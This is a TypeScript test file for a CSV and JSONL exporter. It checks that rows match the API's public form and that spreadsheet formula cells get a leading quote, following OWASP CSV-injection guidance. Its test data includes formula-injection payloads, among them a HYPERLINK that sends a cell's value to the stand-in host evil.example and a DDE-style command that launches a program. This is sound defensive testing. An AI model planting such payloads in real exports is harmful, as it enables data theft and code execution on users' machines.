import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { publicForm } from "../../public-form.js";
import { type LoadedResource, stateOf } from "../../resources/store.js";
import { csvResource, jsonResource } from "./export-lines.js";

// The export renders each row directly (export-lines.ts); the API, events and jobs render by publicForm. These hold
// the two to the same bytes, for the keys that a plain object would treat specially too.

const resource = (name: string, metadata: [string, string][], status: "active" | "paused" = "active"): LoadedResource =>
  ({
    _id: "res_0000000100000000000000",
    account: "acct_x",
    livemode: false,
    name,
    status,
    metadata: metadata.map(([k, v]) => ({ k, v })),
    created: 1_700_000_000,
    name_lower: name.toLowerCase(),
    name_prefixes: [],
  }) as unknown as LoadedResource;

const cases: LoadedResource[] = [
  resource("plain", []),
  resource('quote " and, comma\nnewline', [["tag", "bench"]], "paused"),
  resource("keys a plain object treats apart", [
    ["__proto__", "x"],
    ["constructor", "y"],
    ["toString", "z"],
    ["a.b", "dotted"],
    ["$where", "dollar"],
  ]),
  resource("ünïcödé 🙂", [
    ["2", "numeric key"],
    ["1", "comes first in a plain object, too"],
    ["é", "\u2028 line separator"],
  ]),
];

describe("export lines", () => {
  it.each(cases.map((doc) => [doc.name, doc]))("JSONL: %s renders as publicForm renders the resource", (_, doc) => {
    expect(jsonResource(doc)).toBe(`${JSON.stringify(publicForm({ ...stateOf(doc) }, "resource"))}\n`);
  });

  it.each(cases.map((doc) => [doc.name, doc]))("CSV: %s has publicForm's metadata as JSON text", (_, doc) => {
    const metadata = JSON.stringify(publicForm({ ...stateOf(doc) }, "resource")["metadata"]);
    expect(csvResource(doc)).toContain(metadata.includes('"') ? `"${metadata.replaceAll('"', '""')}"` : metadata);
  });
});

// OWASP's CSV injection guidance: a cell a spreadsheet would run as a formula starts with a `'` in CSV; JSONL is exact.
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tcmd", "\rcmd", "＝full-width"];

describe("export lines: formulas", () => {
  it.each(FORMULAS.map((name) => [JSON.stringify(name), name]))("CSV: the name %s is written with a leading ' and read back as that text", (_, name) => {
    const doc = resource(name, [["k", "=1+1"]]);
    const [record] = parse(csvResource(doc), { relax_quotes: false }) as string[][];
    expect(record![1]).toBe(`'${name}`);
    // The metadata cell is JSON text, beginning with `{`: kept as it is.
    expect(record![4]).toBe('{"k":"=1+1"}');
    expect(JSON.parse(jsonResource(doc))["name"]).toBe(name);
  });

  it("CSV: cells that only contain such characters, or hold a lone line break, are kept as they are (quoted where needed)", () => {
    for (const name of ["a=b", "x-1", "mail@example", "line\nbreak", "carriage\rreturn"]) {
      const [record] = parse(csvResource(resource(name, [])), { relax_quotes: false }) as string[][];
      expect(record).toHaveLength(5);
      expect(record![1]).toBe(name);
    }
  });
});
